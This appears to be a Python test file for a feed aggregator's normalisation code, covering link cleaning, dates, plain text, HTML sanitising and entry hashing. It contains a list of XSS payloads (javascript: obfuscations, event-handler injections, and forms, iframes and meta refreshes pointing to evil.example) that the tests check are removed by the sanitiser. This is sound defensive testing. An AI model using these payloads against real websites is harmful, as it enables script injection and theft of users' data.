@@ -1,0 +1,330 @@
+"""Tests of aggregator.normalise: keys, links, dates, text, HTML sanitising (S6), hashes.
+
+Also home of the S6 helpers (`XSS_PAYLOADS`, `html_problems`) that test_parse and
+test_realfeeds import.
+"""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime, timedelta, timezone
+from urllib.parse import urlsplit
+
+import html5lib
+import pytest
+
+from aggregator.models import Enclosure
+from aggregator.normalise import (
+    MAX_FUTURE_SKEW,
+    SUMMARY_MAX_CHARS,
+    RawEntry,
+    canonical_link,
+    clamp_date,
+    entry_key,
+    normalise_enclosures,
+    normalise_entries,
+    normalise_entry,
+    normalise_language,
+    normalise_tags,
+    parse_date_text,
+    plain_text,
+    sanitise_html,
+    strip_tracking,
+    summarise,
+)
+
+FETCHED = datetime(2024, 7, 1, 12, 0, tzinfo=UTC)
+FEED_URL = "https://feeds.example.org/feed.xml"
+
+XSS_PAYLOADS = (
+    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+    '<a href="&#x20;javascript:alert(1)">space</a>',
+    '<a href="javascript&colon;alert(1)">colon</a>',
+    '<a href="JaVaScRiPt:alert(1)">case</a>',
+    '<a href="  javascript:alert(1)">lead</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)>",
+    '<form action="https://evil.example/steal"><input name="q"><button>go</button></form>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<img src=x onerror="alert(1)">',
+    '<img src="javascript:alert(1)">',
+    '<p onmouseover="alert(1)">hover</p>',
+    '<div style="width: expression(alert(1))">expr</div>',
+    '<div style="background:url(javascript:alert(1))">bg</div>',
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</script>",
+    '<video><source onerror="alert(1)"></video>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<details open ontoggle="alert(1)">t</details>',
+)
+"""RELIABILITY.md S6 payloads plus a few OWASP cheat-sheet classics."""
+
+FORBIDDEN_TAGS = frozenset(
+    {"script", "iframe", "form", "base", "meta", "object", "embed", "style", "link", "svg", "math"}
+)
+URL_ATTRIBUTES = frozenset(
+    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset"}
+)
+SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
+_CONTROL = re.compile(r"[\x00-\x20]")
+
+
+def html_problems(fragment: str) -> list[str]:
+    """What is unsafe in `fragment` as a browser parses it (html5lib); empty: safe."""
+    problems: list[str] = []
+    tree = html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
+    for element in tree.iter():
+        local = str(element.tag).rsplit("}", 1)[-1].lower()
+        if local in FORBIDDEN_TAGS:
+            problems.append(f"tag <{local}>")
+        for name, value in element.attrib.items():
+            attr = str(name).rsplit("}", 1)[-1].lower()
+            if attr.startswith("on") or attr == "style":
+                problems.append(f"attribute {attr} on <{local}>")
+            if attr in URL_ATTRIBUTES or attr.endswith("href"):
+                scheme = urlsplit(_CONTROL.sub("", value)).scheme.lower()
+                if scheme not in SAFE_SCHEMES:
+                    problems.append(f"URL {value!r} in {attr} on <{local}>")
+    return problems
+
+
+def text_problems(text: str) -> list[str]:
+    """A plain-text field made from one of the payloads must hold no markup."""
+    return [f"markup in {text!r}"] if re.search(r"<\s*[a-zA-Z/!?]", text) else []
+
+
+# --- links ---------------------------------------------------------------------------
+
+
+def test_tracking_parameters_are_removed_and_others_kept() -> None:
+    url = "https://x.org/a?utm_source=rss&id=7&fbclid=1&gclid=2&mc_cid=3&mc_eid=4&igshid=5&b=&UTM_Medium=x"
+    assert strip_tracking(url) == "https://x.org/a?id=7&b="
+    assert strip_tracking("https://x.org/a?utm_source=rss") == "https://x.org/a"
+    assert strip_tracking("https://x.org/a?x=1#frag") == "https://x.org/a?x=1#frag"
+
+
+def test_canonical_link_is_absolute_and_http_only() -> None:
+    assert canonical_link("/a/b?ref_src=twsrc", FEED_URL) == "https://feeds.example.org/a/b"
+    assert canonical_link("  c.html ", "https://x.org/dir/") == "https://x.org/dir/c.html"
+    assert canonical_link("javascript:alert(1)", FEED_URL) is None
+    assert canonical_link("mailto:a@b.org", FEED_URL) is None
+    assert canonical_link("http://[broken", FEED_URL) is None
+    assert canonical_link("", FEED_URL) is None
+
+
+# --- dates ---------------------------------------------------------------------------
+
+
+def test_future_dates_are_clamped_to_fetch_time() -> None:
+    assert clamp_date(datetime(2100, 1, 1, tzinfo=UTC), FETCHED) == FETCHED
+    ahead = FETCHED + MAX_FUTURE_SKEW - timedelta(seconds=1)
+    assert clamp_date(ahead, FETCHED) == ahead
+    assert clamp_date(FETCHED + MAX_FUTURE_SKEW + timedelta(seconds=1), FETCHED) == FETCHED
+
+
+def test_epoch_and_ancient_dates_are_unparseable() -> None:
+    assert clamp_date(datetime(1970, 1, 1, tzinfo=UTC), FETCHED) is None
+    assert clamp_date(datetime(1, 1, 1, tzinfo=UTC), FETCHED) is None
+    assert clamp_date(None, FETCHED) is None
+
+
+def test_dates_become_aware_utc() -> None:
+    paris = timezone(timedelta(hours=2))
+    assert clamp_date(datetime(2024, 6, 1, 12, tzinfo=paris), FETCHED) == datetime(
+        2024, 6, 1, 10, tzinfo=UTC
+    )
+    naive = clamp_date(datetime(2024, 6, 1, 12), FETCHED)
+    assert naive is not None and naive.tzinfo is not None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("2024-01-02T03:04:05Z", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
+        ("2024-01-02T03:04:05+01:00", datetime(2024, 1, 2, 2, 4, 5, tzinfo=UTC)),
+        ("Tue, 02 Jan 2024 03:04:05 GMT", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
+        ("not a date", None),
+        ("", None),
+        (None, None),
+    ],
+)
+def test_parse_date_text(text: str | None, expected: datetime | None) -> None:
+    parsed = parse_date_text(text)
+    assert parsed == expected
+    if parsed is not None:
+        assert parsed.tzinfo is not None
+
+
+# --- text ----------------------------------------------------------------------------
+
+
+def test_plain_text_unescapes_strips_and_collapses() -> None:
+    assert plain_text("  First <b>bold</b>\n\n story &amp; co ") == "First bold story & co"
+    assert plain_text("x &lt;b&gt; y") == "x <b> y"  # one level of decoding only
+    assert plain_text("<script>alert(1)</script>Title") == "Title"
+    assert plain_text("Tom &amp; Jerry") == "Tom & Jerry"
+    assert plain_text("a < b") == "a < b"
+    assert plain_text(None) == ""
+
+
+def test_summary_is_bounded_at_a_word_boundary() -> None:
+    text = "word " * 200
+    summary = summarise(f"<p>{text}</p>")
+    assert len(summary) <= SUMMARY_MAX_CHARS
+    assert summary.endswith("\u2026")
+    assert summary[:-1].endswith("word")
+    assert summarise("short <b>one</b>") == "short one"
+    assert summarise("<b>raw</b>", is_text=True) == "<b>raw</b>"
+
+
+# --- HTML ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_sanitised_html_is_safe(payload: str) -> None:
+    out = sanitise_html(f"<p>before</p>{payload}<p>after</p>", "https://x.org/")
+    assert html_problems(out) == [], out
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_plain_text_of_payload_has_no_markup(payload: str) -> None:
+    assert text_problems(plain_text(payload)) == []
+
+
+def test_relative_urls_resolved_and_rel_forced() -> None:
+    out = sanitise_html(
+        '<a href="../b.html" rel="opener" class="x" id="y">b</a><img src="i.png" style="x">'
+        '<a href="mailto:a@b.org">m</a><a href="//cdn.org/x">p</a>',
+        "https://x.org/dir/page.html",
+    )
+    assert 'href="https://x.org/b.html"' in out
+    assert 'src="https://x.org/dir/i.png"' in out
+    assert 'href="mailto:a@b.org"' in out
+    assert 'href="https://cdn.org/x"' in out
+    assert out.count('rel="noopener noreferrer nofollow"') == 3
+    assert "class=" not in out and "id=" not in out and "style" not in out
+
+
+# --- keys, tags, enclosures, language, hash -------------------------------------------
+
+
+def test_entry_key_falls_back_from_guid_to_link_to_hash() -> None:
+    date = datetime(2024, 1, 1, tzinfo=UTC)
+    assert entry_key(" guid-1 ", "https://x.org/a", "t", date, "c") == "guid-1"
+    assert entry_key(None, "https://x.org/a", "t", date, "c") == "https://x.org/a"
+    hashed = entry_key(None, None, "t", date, "c")
+    assert hashed.startswith("sha256:") and len(hashed) == 7 + 64
+    assert hashed == entry_key("", None, "t", date, "c")
+    assert hashed != entry_key(None, None, "t", None, "c")
+    assert entry_key("g" * 2000, None, "t", None, "").startswith("sha256:")
+
+
+def test_tags_deduped_and_plain() -> None:
+    tags = [" Politics ", "politics", "<b>World</b>", "", "  ", "World"]
+    assert normalise_tags(tags) == ("Politics", "World")
+
+
+def test_enclosures_lengths_and_types() -> None:
+    items: list[tuple[str, str | None, str | int | None]] = [
+        ("ep.mp3", "Audio/MPEG ", "123"),
+        ("ep.mp3", "audio/mpeg", "123"),
+        ("https://x.org/v.mp4", None, "12 MB"),
+        ("javascript:alert(1)", "audio/mpeg", 5),
+        ("https://x.org/n.ogg", "", -1),
+    ]
+    assert normalise_enclosures(items, "https://x.org/f/") == (
+        Enclosure("https://x.org/f/ep.mp3", "audio/mpeg", 123),
+        Enclosure("https://x.org/v.mp4", None, None),
+        Enclosure("https://x.org/n.ogg", None, None),
+    )
+
+
+def test_language_normalised() -> None:
+    assert normalise_language(" en_US ") == "en-us"
+    assert normalise_language("") is None
+    assert normalise_language(None) is None
+
+
+def test_normalise_entry_full() -> None:
+    raw = RawEntry(
+        id=None,
+        link="/a?utm_campaign=x",
+        title="Hello &amp; <i>world</i>",
+        published=datetime(2024, 6, 1, tzinfo=UTC),
+        author="<b>Ann</b>",
+        content='<p><img src="pic.jpg"> body</p>',
+        base="https://x.org/posts/",
+        tags=["a", "A"],
+        language="DE",
+    )
+    entry = normalise_entry(raw, feed_url=FEED_URL, feed_language="en", fetched_at=FETCHED)
+    assert entry is not None
+    assert entry.key == entry.link == "https://feeds.example.org/a"
+    assert entry.title == "Hello & world"
+    assert entry.author == "Ann"
+    assert entry.image_url == "https://x.org/posts/pic.jpg"
+    assert entry.summary == "body"
+    assert entry.updated_at == entry.published_at == datetime(2024, 6, 1, tzinfo=UTC)
+    assert entry.tags == ("a",)
+    assert entry.language == "de"
+    assert len(entry.content_hash) == 64
+
+
+def test_content_hash_detects_edits() -> None:
+    def hash_of(**changes: object) -> str:
+        raw = RawEntry(id="g", link="https://x.org/a", title="T", content="<p>c</p>")
+        for name, value in changes.items():
+            setattr(raw, name, value)
+        entry = normalise_entry(raw, feed_url=FEED_URL, feed_language=None, fetched_at=FETCHED)
+        assert entry is not None
+        return entry.content_hash
+
+    base = hash_of()
+    assert base == hash_of()
+    assert base != hash_of(title="T2")
+    assert base != hash_of(content="<p>d</p>")
+    assert base != hash_of(link="https://x.org/b")
+    assert base != hash_of(updated=datetime(2024, 1, 1, tzinfo=UTC))
+    assert base != hash_of(summary="s")
+
+
+def test_entries_without_id_link_or_title_are_dropped() -> None:
+    raws = [RawEntry(summary="only text"), RawEntry(title="kept")]
+    entries, dropped = normalise_entries(
+        raws, feed_url=FEED_URL, feed_language=None, fetched_at=FETCHED, max_entries=10
+    )
+    assert [e.title for e in entries] == ["kept"]
+    assert dropped == 1
+
+
+def test_duplicate_guid_dropped_shared_link_rekeyed() -> None:
+    raws = [
+        RawEntry(id="g1", title="one"),
+        RawEntry(id="g1", title="one again"),
+        RawEntry(link="https://x.org/news", title="a"),
+        RawEntry(link="https://x.org/news", title="b"),
+    ]
+    entries, dropped = normalise_entries(
+        raws, feed_url=FEED_URL, feed_language=None, fetched_at=FETCHED, max_entries=10
+    )
+    assert dropped == 1
+    assert [e.title for e in entries] == ["one", "a", "b"]
+    assert entries[1].key == "https://x.org/news"
+    assert entries[2].key.startswith("sha256:")
+
+
+def test_cap_counts_the_rest_as_dropped() -> None:
+    raws = (RawEntry(id=str(i), title=str(i)) for i in range(50))
+    entries, dropped = normalise_entries(
+        raws, feed_url=FEED_URL, feed_language=None, fetched_at=FETCHED, max_entries=20
+    )
+    assert len(entries) == 20 and dropped == 30
